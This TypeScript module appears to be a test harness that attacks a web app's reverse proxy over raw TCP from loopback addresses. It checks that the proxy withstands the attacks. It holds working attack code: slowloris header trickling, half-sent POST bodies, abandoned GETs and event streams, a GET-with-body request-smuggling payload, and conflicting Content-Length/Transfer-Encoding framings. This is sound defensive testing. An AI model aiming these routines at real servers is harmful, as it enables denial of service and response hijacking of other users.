import { readFileSync } from "node:fs";
import net from "node:net";

/**
 * The attacks of issue #41 on a front door, over raw TCP so each can misbehave as a browser never
 * would. Every attack takes the front door's base URL and the loopback address to attack from
 * (Linux routes all of 127/8 to the loopback interface), so the same attacks run against nginx
 * (server/testing/nginx.ts) and against `npm start`'s own front door.
 */

export interface AttackOptions {
  /** The loopback address the attacker's connections come from. */
  from?: string;
  count?: number;
  path?: string;
  /** Extra request headers, e.g. a shopper's Authorization: a signed-in attacker. */
  headers?: Record<string, string>;
}

const headerLines = (headers: Record<string, string> = {}) =>
  Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join("");

/** One attacking connection: what the server answered on it, and whether the server closed it. */
export interface AttackConnection {
  socket: net.Socket;
  /** Everything the server sent, as latin1 text. */
  received(): string;
  /** The first answer's status, or null while none came. */
  status(): number | null;
  /** True once the server ended or reset the connection (not counting the attacker's own release). */
  closedByServer(): boolean;
  /** The attacker closes this connection. */
  leave(): void;
}

/** Connections the attacker holds open until it leaves. */
export interface HeldAttack {
  connections: AttackConnection[];
  statuses(): (number | null)[];
  /** The attacker leaves: every connection it still holds is closed. */
  leave(): void;
}

export const ATTACKER_ADDRESS = "127.0.0.2";
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** host:port of a base URL, for the Host header and net.connect. */
function targetOf(baseUrl: string): { host: string; port: number; authority: string } {
  const url = new URL(baseUrl);
  return { host: url.hostname, port: Number(url.port || 80), authority: url.host };
}

/** Opens one connection from `from`; resolves once it is connected. */
function connect(baseUrl: string, from: string): Promise<AttackConnection> {
  const { host, port } = targetOf(baseUrl);
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port, localAddress: from });
    let text = "";
    let leaving = false;
    let closedByServer = false;
    socket.setNoDelay(true);
    socket.on("data", (chunk) => (text += chunk.toString("latin1")));
    socket.on("end", () => (closedByServer ||= !leaving));
    socket.on("close", () => (closedByServer ||= !leaving));
    socket.on("error", () => {});
    const connection: AttackConnection = {
      socket,
      received: () => text,
      status: () => statusOf(text),
      closedByServer: () => closedByServer,
      leave() {
        leaving = true;
        socket.destroy();
      },
    };
    socket.once("connect", () => resolve(connection));
    socket.once("error", reject);
  });
}

function statusOf(text: string): number | null {
  const match = /^HTTP\/1\.[01] (\d{3})/.exec(text);
  return match ? Number(match[1]) : null;
}

async function openAll(
  baseUrl: string,
  count: number,
  from: string,
  start: (connection: AttackConnection, index: number) => void,
): Promise<HeldAttack> {
  const connections: AttackConnection[] = [];
  // A few at a time: a burst of thousands of SYNs at once is a different attack (the accept queue's).
  for (let i = 0; i < count; i += 50) {
    const batch = await Promise.all(Array.from({ length: Math.min(50, count - i) }, () => connect(baseUrl, from)));
    batch.forEach((connection, j) => start(connection, i + j));
    connections.push(...batch);
  }
  return {
    connections,
    statuses: () => connections.map((c) => c.status()),
    leave: () => connections.forEach((c) => c.leave()),
  };
}

/**
 * Finding (b): GETs whose sockets close right after the request is sent. Resolves once every
 * connection is closed again.
 */
export async function abandonedGets(baseUrl: string, options: AttackOptions = {}): Promise<void> {
  const { authority } = targetOf(baseUrl);
  const attack = await openAll(baseUrl, options.count ?? 260, options.from ?? ATTACKER_ADDRESS, (connection) => {
    connection.socket.end(
      `GET ${options.path ?? "/"} HTTP/1.1\r\nHost: ${authority}\r\nAccept: text/html\r\n${headerLines(options.headers)}\r\n`,
      () => connection.leave(),
    );
  });
  attack.leave();
}

/**
 * Finding (c): POSTs that announce a body and send only its first bytes, held open until the
 * attacker leaves.
 */
export function unfinishedPostBodies(baseUrl: string, options: AttackOptions = {}): Promise<HeldAttack> {
  const { authority } = targetOf(baseUrl);
  const body = '{"json":{"saleId":1}}';
  return openAll(baseUrl, options.count ?? 260, options.from ?? ATTACKER_ADDRESS, ({ socket }) => {
    socket.write(
      `POST ${options.path ?? "/api/seckill/seckill.token"} HTTP/1.1\r\nHost: ${authority}\r\nContent-Type: application/json\r\n` +
        `Content-Length: ${body.length + 1000}\r\n${headerLines(options.headers)}\r\n${body.slice(0, 5)}`,
    );
  });
}

/** A tRPC subscription's URL path: `/api/trpc/<procedure>?input=…`, as httpSubscriptionLink asks. */
export function subscriptionPath(procedure: string, input: unknown): string {
  return `/api/trpc/${procedure}?input=${encodeURIComponent(JSON.stringify({ json: input }))}`;
}

/**
 * Finding (a): server-sent event streams (room.onStatus: `path` from subscriptionPath, with the
 * signed-in attacker's headers) opened and then abandoned: the attacker stops reading but keeps
 * the sockets open until it leaves.
 */
export function abandonedEventStreams(baseUrl: string, options: AttackOptions & { path: string }): Promise<HeldAttack> {
  const { authority } = targetOf(baseUrl);
  return openAll(baseUrl, options.count ?? 256, options.from ?? ATTACKER_ADDRESS, (connection) => {
    connection.socket.write(
      `GET ${options.path} HTTP/1.1\r\nHost: ${authority}\r\nAccept: text/event-stream\r\nCache-Control: no-cache\r\n${headerLines(options.headers)}\r\n`,
    );
    // Read the first answer's bytes (to see the status), then stop reading.
    connection.socket.once("data", () => connection.socket.pause());
  });
}

/**
 * Finding (e): slowloris: request headers sent a line at a time, never finished, for as long as
 * the attacker stays (or the server closes).
 */
export async function slowlorisHeaders(baseUrl: string, options: AttackOptions & { lineEveryMs?: number } = {}): Promise<HeldAttack> {
  const { authority } = targetOf(baseUrl);
  const attack = await openAll(baseUrl, options.count ?? 300, options.from ?? ATTACKER_ADDRESS, ({ socket }) => {
    socket.write(`GET ${options.path ?? "/"} HTTP/1.1\r\nHost: ${authority}\r\n`);
  });
  const trickle = setInterval(() => {
    for (const { socket } of attack.connections) if (!socket.destroyed) socket.write(`X-Slow-${Date.now() % 1000}: a\r\n`);
  }, options.lineEveryMs ?? 1000);
  return {
    ...attack,
    leave() {
      clearInterval(trickle);
      attack.leave();
    },
  };
}

/**
 * The connections to `ports` on this machine that are established, counted from the server's
 * side (/proc/net/tcp and tcp6: the local port is one of `ports`): what a front door holds open
 * to the processes behind it.
 */
export function establishedConnectionsTo(ports: readonly number[]): number {
  const wanted = new Set(ports);
  let count = 0;
  for (const file of ["/proc/net/tcp", "/proc/net/tcp6"]) {
    let table: string;
    try {
      table = readFileSync(file, "utf8");
    } catch {
      continue;
    }
    for (const line of table.split("\n").slice(1)) {
      const [, local, , state] = line.trim().split(/\s+/);
      // State 01 is ESTABLISHED; the local address ends in :<port in hex>.
      if (state === "01" && local && wanted.has(parseInt(local.slice(local.lastIndexOf(":") + 1), 16))) count++;
    }
  }
  return count;
}

/**
 * Sends raw bytes on one connection and collects what comes back until the server closes it or
 * `quietMs` pass without a byte. For desync probes: the answers on the connection, as text.
 */
export async function rawExchange(
  baseUrl: string,
  bytes: string,
  options: { from?: string; quietMs?: number } = {},
): Promise<{ text: string; statuses: number[]; closedByServer: boolean }> {
  const connection = await connect(baseUrl, options.from ?? ATTACKER_ADDRESS);
  connection.socket.write(bytes, "latin1");
  let seen = -1;
  while (!connection.closedByServer() && connection.received().length !== seen) {
    seen = connection.received().length;
    await pause(options.quietMs ?? 2000);
  }
  const closedByServer = connection.closedByServer();
  connection.leave();
  const text = connection.received();
  return { text, statuses: [...text.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((m) => Number(m[1])), closedByServer };
}

/**
 * Finding (d): a GET carrying a body (Content-Length and bytes that read as a second request),
 * then a normal request on the same connection. A front door that forwards the GET without its
 * body leaves the smuggled bytes on a pooled upstream connection, where they answer someone else.
 */
export function getWithBody(
  baseUrl: string,
  options: { from?: string; method?: "GET" | "HEAD"; path?: string; smuggledPath: string; followUpPath: string },
) {
  const { authority } = targetOf(baseUrl);
  const smuggled = `GET ${options.smuggledPath} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
  const bytes =
    `${options.method ?? "GET"} ${options.path ?? "/api/health"} HTTP/1.1\r\nHost: ${authority}\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}` +
    `GET ${options.followUpPath} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
  return rawExchange(baseUrl, bytes, options);
}

/** Request framings a front door must refuse: Content-Length and Transfer-Encoding that disagree. */
export const CONFLICTING_FRAMINGS = {
  "Content-Length with Transfer-Encoding: chunked": (body: string) =>
    `Content-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
  "Transfer-Encoding: chunked with Content-Length": (body: string) =>
    `Transfer-Encoding: chunked\r\nContent-Length: ${body.length}\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
  "two different Content-Lengths": (body: string) => `Content-Length: ${body.length}\r\nContent-Length: 3\r\n\r\n${body}`,
} as const satisfies Record<string, (body: string) => string>;

/** A POST of `body` to `path` with one of CONFLICTING_FRAMINGS. */
export function conflictingFraming(
  baseUrl: string,
  framing: keyof typeof CONFLICTING_FRAMINGS,
  options: { from?: string; path: string; body: string },
) {
  const { authority } = targetOf(baseUrl);
  const bytes = `POST ${options.path} HTTP/1.1\r\nHost: ${authority}\r\nContent-Type: application/json\r\n${CONFLICTING_FRAMINGS[framing](options.body)}`;
  return rawExchange(baseUrl, bytes, options);
}
